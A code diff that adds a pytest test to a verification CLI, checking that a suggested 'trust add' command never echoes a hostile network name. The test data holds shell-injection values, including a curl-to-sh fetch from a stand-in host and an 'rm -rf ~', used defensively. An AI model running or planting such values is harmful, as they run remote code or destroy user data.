@@ -414,3 +414,17 @@ def test_register_reads_another_partys_request_strictly(tmp_path, content):
     )  # fmt: skip
     assert r.returncode == 2, (r.returncode, r.stderr[-500:])
     assert "Traceback" not in r.stderr and "error:" in r.stderr
+
+
+@pytest.mark.parametrize("network", ["x; touch /tmp/pwned #", "$(curl evil.example|sh)", "a`id`", "net\nrm -rf ~"])
+def test_the_suggested_command_never_carries_a_hostile_network_name(genuine, tmp_path, network):
+    """The refusal suggests `oretrace trust add NETWORK KEY`; a bundle's own network name
+    goes into it only if it is a well-formed name (nothing a shell would interpret)."""
+    for beside in (None, genuine["root"]):
+        path = write(tmp_path / ("b" if beside else "n") / "claim.json", {**genuine["clean"], "network": network},
+                     beside_key=beside)  # fmt: skip
+        r = run(["verify", str(path)], tmp_path / "config")
+        assert r.exit_code == (EXIT_BESIDE_KEY if beside else 2), r.output
+        line = " ".join(r.output.split())
+        assert "oretrace trust add NETWORK KEY" in line, line
+        assert "touch" not in line.split("trust add")[1] and "curl" not in line.split("trust add")[1]
